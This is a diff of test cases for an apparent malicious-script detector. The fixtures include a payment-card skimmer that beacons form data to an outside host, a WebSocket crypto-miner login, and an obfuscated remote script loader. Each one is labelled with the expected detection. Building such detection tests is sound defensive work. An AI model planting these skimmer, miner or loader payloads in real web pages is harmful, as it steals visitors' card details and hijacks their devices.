@@ -23,6 +23,32 @@ const hexOf = (text: string) => Buffer.from(text).toString('hex');
 const LOAD = `var s=document.createElement('script');s.src='//${FAR}/j.js';document.head.appendChild(s)`;
 const WRITE = `document.write('<iframe src="http://${FAR}/" width=0 height=0></iframe>')`;
 
+describe('what a script does for others', () => {
+  it.each<[string, string, string]>([
+    [
+      'every field of the card is gathered under its name',
+      `<form id="pay"><input name="cardnumber"><input name="cvv"></form>${script(`pay.onsubmit=function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});new Image().src='https://${FAR}/g.gif?d='+btoa(JSON.stringify(d))}`)}`,
+      'skimmer CONFIRMED',
+    ],
+    [
+      'a worker calculates, and a pool is told whom it pays',
+      script(
+        `var w=new Worker('/w.js'),s=new WebSocket('wss://pool.${FAR}/proxy');s.onopen=function(){s.send(JSON.stringify({method:'login',params:{login:'4${'A9bKw7'.repeat(15)}tRz2'}}))}`,
+      ),
+      'miner CONFIRMED',
+    ],
+    [
+      'what is made is put together from parts, and so is the address',
+      script(
+        `var a='https:',b='//cdn.far',c='-7.example/z.js';var s=document['cre'+'ateElement']('scr'+'ipt');s['sr'+'c']=a+b+c;document.getElementsByTagName('head')[0].appendChild(s)`,
+      ),
+      'hiddenCode CONFIRMED',
+    ],
+  ])('%s', (_name, body, expected) => {
+    expect(listConfidences(shown(body))).toEqual([expected]);
+  });
+});
+
 describe('code that is hidden in other ways', () => {
   it.each<[string, string]>([
     [
